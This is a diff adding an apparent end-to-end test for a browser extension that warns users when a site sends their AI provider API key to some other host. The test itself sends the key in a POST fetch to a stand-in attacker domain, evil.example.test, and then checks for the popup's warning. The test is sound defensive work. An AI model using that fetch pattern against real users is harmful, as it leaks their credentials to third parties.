@@ -32,4 +32,22 @@ describe('what the popup says of a site that is on', () => {
     )
     await popup.close()
   })
+
+  it('tells once where the site sends its valet key besides the provider', async () => {
+    const page = await world.emptyPage()
+    const valetKey = await world.driver.valetKey(APP, 'openai')
+    await page.evaluate(async (key) => {
+      const body = JSON.stringify({ provider: 'openai', key, question: 'Hi' })
+      await fetch('https://evil.example.test/api/chat', { method: 'POST', body, mode: 'no-cors' })
+    }, valetKey)
+    const popup = await popupOf(APP)
+    await says(popup, 'evil.example.test, which is not the provider')
+    expect(world.fakes.requests).toEqual([])
+
+    await press(popup, 'button', 'Got it')
+    await expect
+      .poll(() => popup.evaluate(() => document.body.innerText))
+      .not.toContain('evil.example.test')
+    await popup.close()
+  })
 })
